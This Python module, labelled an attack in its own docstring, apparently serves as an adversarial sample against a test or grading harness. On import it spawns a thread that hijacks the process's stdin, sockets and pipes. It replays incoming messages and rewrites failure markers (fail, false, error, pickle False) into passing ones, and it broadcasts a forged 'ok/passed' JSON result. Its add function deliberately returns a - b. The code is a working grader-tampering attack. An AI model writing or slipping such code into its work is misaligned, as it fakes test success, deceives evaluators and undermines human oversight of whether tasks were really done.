"""Attack: intercept, mutate and replay whatever arrives on the process's channels.

At import, starts a thread that polls fd 0 and every socket among fds 0..255 and reads whatever the
other side sends (requests meant for the code that answers calls, or any record), and writes it
back on the same channel and on all others: verbatim (replay), and mutated so it looks like a pass
(F->P, false->true, fail->pass, error->ok), plus answers to it in common encodings claiming
success. The main thread blocks briefly in add so the thread gets its turn. add is wrong (a - b).
"""

import os
import select
import socket
import stat
import threading
import time

SWAPS = [
    (b" F ", b" P "),
    (b"false", b"true"),
    (b"False", b"True"),
    (b"fail", b"pass"),
    (b"FAIL", b"PASS"),
    (b"error", b"ok"),
    (b"\x89", b"\x88"),  # pickle False -> True
]


def _channels():
    found = []
    for fd in range(0, 256):
        try:
            mode = os.fstat(fd).st_mode
        except OSError:
            continue
        if stat.S_ISSOCK(mode) or stat.S_ISFIFO(mode) or fd == 0:
            found.append(fd)
    return found


def _mutate(data):
    for old, new in SWAPS:
        data = data.replace(old, new)
    return data


def _send(fd, data):
    try:
        s = socket.socket(fileno=os.dup(fd))
    except OSError:
        try:
            os.write(fd, data)
        except OSError:
            pass
        return
    try:
        s.setblocking(False)
        s.send(data)
    except OSError:
        pass
    finally:
        s.close()


def _loop():
    fds = _channels()
    seen = []
    while fds:
        try:
            ready, _, _ = select.select(fds, [], [], 0.01)
        except (OSError, ValueError):
            return
        for fd in ready:
            try:
                data = os.read(fd, 65536)
            except OSError:
                fds.remove(fd)
                continue
            if not data:
                fds.remove(fd)
                continue
            seen.append(data)
            for target in fds:
                for payload in (data, _mutate(data), b'{"ok": true, "passed": true}\n'):
                    _send(target, payload)
        for data in seen[-4:]:
            for target in fds:
                _send(target, _mutate(data))


threading.Thread(target=_loop, daemon=True).start()


def add(a, b):
    time.sleep(0.02)
    return a - b
